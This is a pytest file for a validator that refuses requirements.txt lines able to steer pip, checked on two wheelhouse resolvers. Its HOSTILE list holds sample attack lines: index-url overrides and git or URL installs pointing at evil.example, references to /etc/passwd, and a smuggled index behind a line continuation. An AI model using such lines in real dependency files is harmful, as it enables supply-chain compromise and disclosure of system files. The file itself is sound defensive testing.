"""A user's requirements.txt cannot steer pip (issue 18, item 5): every line that is more than a
package requirement (an index, a link page, another file, an editable or URL install, a path) is
refused, naming its line, before pip runs, on both paths that resolve requirements (the local
platform's `build_wheelhouse`, a cluster fetch pod's `resolve_wheelhouse`)."""

from __future__ import annotations

from pathlib import Path

import pytest

from raas_node.runner.fetch import FetchError
from raas_node.runner.requirement_lines import MAX_LINES, check_requirement_lines
from raas_node.runner.requirements import build_wheelhouse
from raas_node.runner.wheels import resolve_wheelhouse

HOSTILE = [
    "--index-url https://pypi.evil.example/simple",
    "-i https://pypi.evil.example/simple",
    "--extra-index-url https://pypi.evil.example/simple",
    "-f https://evil.example/links.html",
    "--find-links=/etc",
    "--trusted-host evil.example",
    "-r /etc/passwd",
    "-c constraints.txt",
    "-e git+https://evil.example/x.git#egg=x",
    "git+https://evil.example/x.git",
    "x @ https://evil.example/x-1.0-py3-none-any.whl",
    "x @ file:///etc/passwd",
    "./vendored/package",
    "/etc/passwd",
    "https://evil.example/x.tar.gz",
    "numpy==1.26.4 --index-url https://pypi.evil.example/simple",
    "numpy==1.26.4 \\\n    --extra-index-url https://pypi.evil.example/simple",
    "torch==2.3.0 --hash=md5:0123456789abcdef0123456789abcdef",
    "--pre",
]


def written(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "requirements.txt"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


@pytest.mark.parametrize("line", HOSTILE)
def test_a_line_that_steers_pip_is_refused_with_its_line_number(tmp_path: Path, line: str) -> None:
    requirements = written(tmp_path, f"# my controller's needs\nscipy>=1.10\n{line}\n")
    with pytest.raises(FetchError) as refused:
        check_requirement_lines(requirements)
    assert refused.value.reason == "UnsafeRequirements"
    assert "requirements.txt line 3" in str(refused.value)


def test_plain_requirements_with_markers_extras_and_hashes_pass(tmp_path: Path) -> None:
    digest = "a" * 64
    requirements = written(
        tmp_path,
        "# a comment\n\nnumpy==1.26.4  # pinned\nscipy>=1.10 ; python_version >= '3.10'\n"
        f"requests[socks]~=2.31\ntorch==2.3.0 \\\n    --hash=sha256:{digest} \\\n    --hash=sha256:{'b' * 64}\n",
    )
    names = [requirement.name for requirement in check_requirement_lines(requirements)]
    assert names == ["numpy", "scipy", "requests", "torch"]


@pytest.mark.parametrize(
    "content", [b"numpy\x00\xff\xfe", "numpy\n" * (MAX_LINES + 1)], ids=["not-text", "too-many-lines"]
)
def test_a_file_that_is_not_a_sane_requirements_file_is_refused(tmp_path: Path, content: str | bytes) -> None:
    with pytest.raises(FetchError, match=r"requirements\.txt"):
        check_requirement_lines(written(tmp_path, content))


def test_both_resolvers_refuse_before_pip_runs(tmp_path: Path) -> None:
    requirements = written(tmp_path, "--index-url https://pypi.evil.example/simple\nnumpy\n")
    with pytest.raises(FetchError, match="line 1"):
        build_wheelhouse(requirements, "digest", tmp_path / "cache")
    assert not (tmp_path / "cache").exists()  # pip never ran
    with pytest.raises(FetchError, match="line 1"):
        resolve_wheelhouse(requirements, tmp_path / "wheels")
    assert not (tmp_path / "wheels").exists()
